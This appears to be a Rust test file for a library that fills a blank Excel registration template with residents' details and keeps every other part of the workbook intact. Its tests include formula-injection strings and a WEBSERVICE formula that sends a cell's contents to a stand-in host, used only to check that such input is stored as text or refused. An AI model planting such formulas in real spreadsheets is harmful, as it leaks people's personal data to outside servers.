//! A department's blank workbook, filled: what goes in, and that all else stays.

#![expect(clippy::unwrap_used, reason = "a test stops where it fails")]

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};

use intake::Table;
use intake::header::{Column, Mapping, PEOPLE_SHEET};
use intake::template::{MOST_BYTES, Room, Template, TemplateError, Value};
use proptest::prelude::*;
use rust_xlsxwriter::{Format, Formula, Workbook};

/// Made by openpyxl; `fixtures/blank.py` says how.
const BLANK: &[u8] = include_bytes!("fixtures/blank.xlsx");

fn blank() -> (Template, Mapping) {
    let template = Template::open(BLANK.to_vec()).unwrap();
    let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
    (template, mapping)
}

fn parts(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|index| {
            let mut file = archive.by_index(index).unwrap();
            let mut part = Vec::new();
            file.read_to_end(&mut part).unwrap();
            (file.name().unwrap().into_owned(), part)
        })
        .collect()
}

fn packed(parts: &BTreeMap<String, Vec<u8>>) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, part) in parts {
        out.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(part).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn rows_of(bytes: Vec<u8>) -> BTreeMap<u64, Vec<String>> {
    Table::from_bytes(bytes).unwrap().map(|row| row.unwrap()).map(|row| (row.number, row.cells)).collect()
}

/// A value for each column of the mapping, `name-3` of the third row and so on.
fn numbered(mapping: &Mapping, rows: u64) -> Vec<Vec<Value>> {
    let value = |column: Column, row| match column {
        Column::Serial => Value::Number(row),
        column => Value::Text(format!("{}-{row}", column.en())),
    };
    (1..=rows).map(|row| mapping.columns.iter().map(|(column, _)| value(*column, row)).collect()).collect()
}

#[test]
fn headings_over_two_rows_are_recognised_and_rows_go_below_them() {
    let (template, mapping) = blank();
    let look = template.look(&PEOPLE_SHEET).unwrap();
    let told: Vec<(&str, Option<&str>)> = (0..)
        .zip(&look.places)
        .map(|(place, found)| {
            let column = mapping.columns.iter().find(|(_, at)| *at == place).map(|(column, _)| column.en());
            (found.heading.as_str(), column)
        })
        .collect();
    assert_eq!(
        told,
        [
            ("序号", Some("serial")),
            ("姓名", Some("name")),
            ("性别", Some("sex")),
            ("身份证号码", Some("id_last_four")),
            ("楼栋", Some("building")),
            ("单元", Some("unit")),
            ("房号", Some("room")),
            ("联系电话", Some("phone")),
            ("是否低保", None),
        ]
    );
    assert_eq!(template.room(&mapping).unwrap(), Room { first: 5, until: Some(15), column: 0 });
}

#[test]
fn only_the_rows_change_and_every_other_part_stays_byte_for_byte() {
    let (template, mapping) = blank();
    let filled = template.fill(&mapping, &numbered(&mapping, 7)).unwrap();
    let (before, mut after) = (parts(BLANK), parts(&filled));
    let sheet = String::from_utf8(after.remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    let workbook = String::from_utf8(after.remove("xl/workbook.xml").unwrap()).unwrap();
    for (name, part) in &after {
        assert_eq!(part, &before[name], "{name}");
    }
    assert_eq!(after.len() + 2, before.len());
    assert!(workbook.contains("fullCalcOnLoad=\"1\""));
    assert!(workbook.contains("'登记表'!$A$1:$I$16"));
    // What is around the rows is what was around them, to the byte.
    let was = String::from_utf8(before["xl/worksheets/sheet1.xml"].clone()).unwrap();
    let outside = |xml: &str| {
        let (head, rest) = xml.split_once("<row r=\"5\"").unwrap();
        let tail = &rest[rest.find("<row r=\"12\"").unwrap()..];
        (head.replace(" />", "/>"), tail.to_owned())
    };
    assert_eq!(outside(&sheet), outside(&was));
    for kept in [
        "=\"A1:I1\"",
        "dataValidation ",
        "conditionalFormatting ",
        "COUNTA(B5:B14)",
        "landscape",
        "legacyDrawing",
    ] {
        assert!(sheet.contains(kept), "{kept}");
    }
    let rows = rows_of(filled);
    assert_eq!(rows[&5][..4], ["1", "name-1", "sex-1", "id_last_four-1"]);
    assert_eq!(rows[&11][4..8], ["building-7", "unit-7", "room-7", "phone-7"]);
    assert_eq!(rows[&12], ["8"], "what was written before the rows stays below them");
    assert_eq!(rows[&15][0], "合计");
}

#[test]
fn rows_that_do_not_fit_above_what_stands_below_are_refused_with_the_row() {
    let (template, mapping) = blank();
    assert!(template.fill(&mapping, &numbered(&mapping, 10)).is_ok());
    let error = template.fill(&mapping, &numbered(&mapping, 11)).unwrap_err();
    assert!(matches!(&error, TemplateError::Full { rows: 11, room: 10, cell } if cell == "A15"));
    assert_eq!(
        error.zh(),
        "要填 11 行，表里 A15 单元格已有内容，上面只放得下 10 行；请在空白表的这一格上面插入足够的空行，重新上传"
    );
    assert_eq!(
        error.en(),
        "11 rows are to be filled in, and 10 fit above the cell A15, in which something stands; insert empty rows above it in \
         the blank workbook, and bring that"
    );
}

#[test]
fn rows_beyond_those_of_the_sheet_look_like_its_last_one() {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    let bold = Format::new().set_bold().set_border(rust_xlsxwriter::FormatBorder::Thin);
    for (column, heading) in (0..).zip(["姓名", "电话", "备注", "岁数"]) {
        page.write_string(0, column, heading).unwrap();
        page.write_blank(1, column, &bold).unwrap();
    }
    page.set_row_height(1, 30).unwrap();
    page.write_formula(1, 4, Formula::new("=LEN(A2)")).unwrap();
    let template = Template::open(book.save_to_buffer().unwrap()).unwrap();
    let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
    assert_eq!(template.room(&mapping).unwrap(), Room { first: 2, until: None, column: 0 });
    let filled = template.fill(&mapping, &numbered(&mapping, 300)).unwrap();
    let sheet = String::from_utf8(parts(&filled).remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    assert!(sheet.contains("<dimension ref=\"A1:E301\"/>"), "{}", &sheet[..400]);
    let style = |row: u32, column: &str| {
        let at = sheet.find(&format!("<c r=\"{column}{row}\"")).unwrap();
        sheet[at..].split(['>', '/']).next().unwrap().split("s=\"").nth(1).unwrap().split('"').next().unwrap()
    };
    assert_eq!(style(301, "C"), style(2, "C"), "a column that is not filled has its border too");
    assert_eq!(style(301, "A"), style(2, "A"));
    assert_eq!(sheet.matches("ht=\"30\"").count(), 300);
    assert!(sheet.contains("LEN(A2)"));
    assert_eq!(rows_of(filled)[&301][..2], ["name-300", "phone-300"]);
}

#[test]
fn what_begins_like_a_formula_is_a_text() {
    let (template, mapping) = blank();
    let mapping = Mapping { columns: vec![(Column::Name, 1)], ..mapping };
    let texts =
        ["=HYPERLINK(\"http://a\")", "+1", "-1", "@SUM(1)", "<b>&\"", " a ", "00123", "\u{1}\u{FFFE}王"];
    let rows: Vec<Vec<Value>> = texts.iter().map(|text| vec![Value::text(*text)]).collect();
    let filled = template.fill(&mapping, &rows).unwrap();
    let sheet = String::from_utf8(parts(&filled).remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    assert_eq!(sheet.matches("<f>").count(), 1, "only the template's own");
    let names: Vec<String> = rows_of(filled).range(5..13).map(|(_, cells)| cells[1].clone()).collect();
    assert_eq!(names[..7], texts[..7]);
    assert_eq!(names[7], "王");
}

#[test]
fn a_wrong_file_is_told_by_what_is_wrong_with_it() {
    let code = |bytes: Vec<u8>| Template::open(bytes).map_err(|error| error.code()).unwrap_err();
    let mut torn = BLANK.to_vec();
    torn.truncate(4000);
    let mut rotten = BLANK.to_vec();
    let middle = rotten.len() / 3;
    rotten[middle..middle + 60].fill(7);
    let with = |name: &str, part: &[u8]| {
        let mut parts = parts(BLANK);
        parts.insert(name.to_owned(), part.to_vec());
        packed(&parts)
    };
    let asking = br#"<worksheet><sheetData><row><c><f>_xlfn.WEBSERVICE("http://a/?"&amp;B5)</f></c></row></sheetData></worksheet>"#;
    for (expected, bytes) in [
        ("not_xlsx", "姓名,电话\n".as_bytes().to_vec()),
        ("not_xlsx", vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
        ("not_xlsx", packed(&BTreeMap::from([("word/document.xml".to_owned(), b"<a/>".to_vec())]))),
        ("template_damaged", torn),
        ("template_damaged", rotten),
        ("template_too_large", vec![b'P'; MOST_BYTES + 1]),
        ("template_too_large", with("xl/media/image1.png", &vec![0; 49 << 20])),
        ("template_active", with("xl/vbaProject.bin", b"a")),
        ("template_active", with("xl/externalLinks/externalLink1.xml", b"<a/>")),
        ("template_active", with("xl/worksheets/sheet9.xml", asking)),
    ] {
        assert_eq!(code(bytes), expected);
    }
    let error = Template::open(vec![0xD0, 0xCF, 0x11, 0xE0]).unwrap_err();
    assert!(error.zh().contains("另存为 .xlsx") && error.en().contains("save it as .xlsx"));
}

#[test]
fn columns_that_no_sheet_has_are_refused() {
    let (template, mapping) = blank();
    for wrong in [
        Mapping { columns: Vec::new(), ..mapping.clone() },
        Mapping { columns: vec![(Column::Name, 1), (Column::Sex, 1)], ..mapping.clone() },
        Mapping { columns: vec![(Column::Name, 5000)], ..mapping.clone() },
        Mapping { sheet: 7, ..mapping.clone() },
    ] {
        assert_eq!(template.room(&wrong).unwrap_err().code(), "columns");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Whatever is filled in is read back from the same cells, by a reader that knows nothing of how it was written.
    #[test]
    fn what_goes_in_comes_out(texts in proptest::collection::vec("[^\u{0}-\u{1f}\u{fffd}-\u{ffff}]{0,12}", 0..10)) {
        let (template, mapping) = blank();
        let mapping = Mapping { columns: vec![(Column::Name, 1)], ..mapping };
        let rows: Vec<Vec<Value>> = texts.iter().map(|text| vec![Value::text(text.clone())]).collect();
        let read = rows_of(template.fill(&mapping, &rows).unwrap());
        for (number, text) in (5..).zip(&texts) {
            let cell = read.get(&number).and_then(|cells| cells.get(1)).cloned().unwrap_or_default();
            prop_assert_eq!(cell.trim(), text.trim());
        }
    }
}
